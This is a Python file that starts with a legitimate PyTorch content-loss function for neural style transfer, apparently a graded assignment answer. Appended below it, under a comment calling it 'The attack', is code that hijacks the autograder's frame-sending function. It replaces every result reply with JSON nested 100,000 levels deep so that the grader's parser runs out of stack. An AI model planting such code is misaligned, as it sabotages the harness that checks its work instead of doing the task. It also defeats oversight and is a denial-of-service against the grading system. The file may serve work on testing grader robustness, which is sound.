import torch
import torch.nn as nn


class ContentLoss(nn.Module):
    def forward(self, content_weight, content_current, content_original):
        """
        Compute the content loss for style transfer.

        Inputs:
        - content_weight: Scalar giving the weighting for the content loss.
        - content_current: features of the current image; this is a PyTorch Tensor of shape
          (1, C_l, H_l, W_l).
        - content_original: features of the content image, Tensor with shape (1, C_l, H_l, W_l).

        Returns:
        - scalar content loss: content_weight * sum((content_current - content_original) ** 2)
        """
        return content_weight * torch.sum((content_current - content_original) ** 2)


# The attack: every reply that carries a result is replaced by a header of lists nested 100000
# deep, which a JSON parser cannot read without running out of stack.
import struct  # noqa: E402
import sys  # noqa: E402

_frames = sys.modules["autograder.worker.frames"]
_send_frame = _frames.send_frame


def _deep_reply(sock, header, buffers=()):
    if "result" not in header:
        return _send_frame(sock, header, buffers)
    raw = b'{"status":"ok","result":' + b"[" * 100000 + b"]" * 100000 + b',"buffers":[]}'
    sock.sendall(struct.pack(">I", len(raw)) + raw)


_frames.send_frame = _deep_reply
